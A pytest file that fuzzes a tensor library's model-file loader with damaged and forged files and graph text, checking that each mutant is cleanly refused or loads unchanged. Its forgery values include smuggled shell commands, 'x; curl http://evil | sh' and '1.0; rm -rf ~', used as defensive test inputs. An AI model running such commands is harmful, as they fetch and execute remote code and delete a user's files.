"""Mutation fuzzing of model files, with a fixed seed and a bounded count: every damaged or
forged file is refused with a clear one-line FileFormatError naming the file, or loads exactly
what was saved — never another exception, never other content.  Forged graph text is refused
the same way or parses into a graph that verifies and prints back stably.

``MSKERNEL_FUZZ_MUTANTS`` sets the count per family (default 300); run with ``-s`` to see
the outcome counts."""

import json
import os

import numpy as np
import pytest

import mskernel as ms
from mskernel import ops
from mskernel.frontend.jit import jit
from mskernel.ir import container, verify
from mskernel.ir.fileformat import MAGIC, FORMAT_VERSION, load_model, save_model
from mskernel.ir.parser import parse_graph
from mskernel.ir.printer import print_graph
from mskernel.testing.filefuzz import Parts, mutants, outcomes, same_arrays, seal

COUNT = int(os.environ.get("MSKERNEL_FUZZ_MUTANTS", "300"))


@jit
def step(x, w):
    y = ops.matmul(x, w) * 2.0 + ops.reshape(ops.exp(w[0]), (1, 3))
    if y.sum() > 0:
        y = ops.tanh(y) - 0.5
    else:
        y = ops.clip(y, -1.0, float("inf"))
    return ops.transpose(y, (1, 0))


WEIGHTS = {"w": np.linspace(-1, 1, 12, dtype=np.float32).reshape(4, 3),
           "empty": np.zeros((0, 3), np.float64), "bf": np.array([1.0, -2.5, 3.0], np.float32),
           "step": np.array(7, np.int64), "mask": np.array([True, False, True]),
           "z": np.array([1 + 2j, -0.5j], np.complex64)}


@pytest.fixture(scope="module")
def saved(tmp_path_factory):
    x = ms.Tensor(np.ones((2, 4), np.float32))
    graph = step.lower(x, ms.Tensor(WEIGHTS["w"])).graph
    path = tmp_path_factory.mktemp("fuzz") / "model.msk"
    save_model(path, graph, WEIGHTS, dtypes={"bf": "bfloat16"})
    return path, load_model(path)


def same_model(model, original) -> bool:
    return (print_graph(model.graph) == print_graph(original.graph)
            and model.requires == original.requires
            and model.weight_dtypes == original.weight_dtypes
            and model.weights.keys() == original.weights.keys()
            and all(same_arrays(a, original.weights[n]) for n, a in model.weights.items()))


def _requires(edit):
    def forge(header, payload, rng):
        edit(header, rng)
        return json.dumps(header), payload
    return forge


HOSTILE_NAMES = ["", "-x", "x; curl http://evil | sh", "a b", "mskernel\n", "é", "x" * 300]
MODEL_FORGERIES = {
    "requires name": _requires(lambda h, rng: h["requires"].update(
        {HOSTILE_NAMES[int(rng.integers(len(HOSTILE_NAMES)))]: None})),
    "requires version": _requires(lambda h, rng: h["requires"].update(
        mskernel=["1.0; rm -rf ~", "", 1, "x y", [1]][int(rng.integers(5))])),
    "op owner": _requires(lambda h, rng: h["op_owners"].update(
        {next(iter(h["op_owners"])): ["mskernel-other", "", None, 3][int(rng.integers(4))]})),
    "kind field type": _requires(lambda h, rng: h.update(
        {["graph", "requires", "op_owners"][int(rng.integers(3))]: [None, 1, "x", [], {}][
            int(rng.integers(5))]})),
}


def fuzz(saved, tmp_path, count):
    path, original = saved
    return outcomes(str(tmp_path / "mutant.msk"),
                    mutants(path.read_bytes(), 2 * count, seed=13, extra_forgeries=MODEL_FORGERIES),
                    load_model, lambda m: same_model(m, original))


def test_damaged_and_forged_model_files(saved, tmp_path):
    counts, others = fuzz(saved, tmp_path, COUNT)
    print("\nmodel files:", ", ".join(f"{family} {outcome} {n}"
                                      for (family, outcome), n in sorted(counts.items())))
    assert others == []
    assert counts["damaged", "identical"] == 0  # the digest catches every damage
    assert counts["damaged", "error"] > 0.95 * COUNT
    assert counts["forged", "error"] > 0.8 * COUNT and counts["forged", "identical"] > 0


def test_the_fuzzing_finds_a_loader_that_skips_the_layout_checks(saved, tmp_path, monkeypatch):
    monkeypatch.setattr(container._Reader, "check_layout", lambda self, header, nbytes: None)
    counts, others = fuzz(saved, tmp_path, 50)
    assert counts["forged", "other"] > 10
    assert any("aliased offset" in o or "shifted offset" in o for o in others)


# -- the graph text ----------------------------------------------------------------------------

SNIPPETS = ["(" * 150, "9" * 5000, "-" + "1" * 4400, "dense<f32[0,99999999999999999999]: []>",
            "nan(0x1)", '"\\u', "{", "%999", "f32[]", "loc(", "If", "}", "\n", "1e999", "//"]


def graph_text_mutants(text, count, rng):
    for _ in range(count):
        at, span = int(rng.integers(len(text))), int(rng.integers(1, 20))
        how = int(rng.integers(4))
        if how == 0:
            yield text[:at] + str(rng.choice(list("0123456789()[],%-e.\"{}: \nfi"))) + text[at + 1:]
        elif how == 1:
            yield text[:at] + text[at + span:]
        elif how == 2:
            yield text[:at] + text[at:at + span] + text[at:]
        else:
            yield text[:at] + str(rng.choice(SNIPPETS)) + text[at:]


def test_forged_graph_text_is_refused_or_parses_into_a_valid_graph(saved, tmp_path):
    path, original = saved
    parts = Parts.of(path.read_bytes())
    header = parts.header
    target = tmp_path / "mutant.msk"
    rng = np.random.default_rng(17)
    refused = parsed = 0
    for text in graph_text_mutants(header["graph"], COUNT, rng):
        target.write_bytes(seal(MAGIC, FORMAT_VERSION,
                                json.dumps({**header, "graph": text}).encode(), parts.payload))
        try:
            model = load_model(target)
        except ms.errors.FileFormatError as exc:
            assert str(exc).startswith(f"{target}: ") and "\n" not in str(exc), str(exc)
            refused += 1
            continue
        verify(model.graph)
        printed = print_graph(model.graph)
        assert print_graph(parse_graph(printed)) == printed
        parsed += 1
    print(f"\ngraph text: refused {refused}, parsed into a valid graph {parsed}")
    assert refused > 0.5 * COUNT and parsed > 0
    assert print_graph(original.graph) == header["graph"]
